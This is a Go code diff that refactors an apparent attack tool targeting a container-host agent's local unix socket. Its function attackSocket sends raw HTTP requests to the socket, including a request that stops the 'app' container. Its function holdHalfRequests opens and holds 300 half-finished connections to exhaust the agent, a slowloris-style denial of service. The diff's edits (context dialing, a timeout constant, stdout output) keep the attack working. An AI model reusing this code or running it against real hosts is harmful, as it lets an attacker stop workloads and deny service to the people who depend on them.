@@ -5,11 +5,14 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"os"
 	"strings"
 	"time"
 )
 
 const (
+	// patience is how long a client waits for more answers.
+	patience  = 3 * time.Second
 	apiSocket = "/run/dockhost/agent.sock"
 	head      = "GET /v1/status HTTP/1.1\r\nHost: dockhost\r\n"
 	update    = "POST /v1/containers/app/stop HTTP/1.1\r\nHost: dockhost\r\n"
@@ -52,17 +55,17 @@ func attackSocket(ctx context.Context, args []string) error {
 	if err != nil {
 		return err
 	}
-	conn, err := net.Dial("unix", apiSocket)
+	conn, err := new(net.Dialer).DialContext(ctx, "unix", apiSocket)
 	if err != nil {
 		return err
 	}
 	defer conn.Close()
-	if err := conn.SetDeadline(time.Now().Add(deadline)); err != nil {
+	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
 		return err
 	}
 	go func() { _, _ = io.WriteString(conn, text) }()
 	answers, err := io.ReadAll(io.LimitReader(conn, 4<<20))
-	fmt.Printf("%s\n(%v)\n", answers, err)
+	_, _ = fmt.Fprintf(os.Stdout, "%s\n(%v)\n", answers, err)
 	return nil
 }
 
@@ -70,7 +73,7 @@ func holdHalfRequests(ctx context.Context) error {
 	const half = 300
 	open := 0
 	for range half {
-		conn, err := net.Dial("unix", apiSocket)
+		conn, err := new(net.Dialer).DialContext(ctx, "unix", apiSocket)
 		if err != nil {
 			return err
 		}
@@ -79,7 +82,7 @@ func holdHalfRequests(ctx context.Context) error {
 			open++
 		}
 	}
-	fmt.Println("sent", open)
+	_, _ = fmt.Fprintln(os.Stdout, "sent", open)
 	<-ctx.Done()
 	return nil
 }
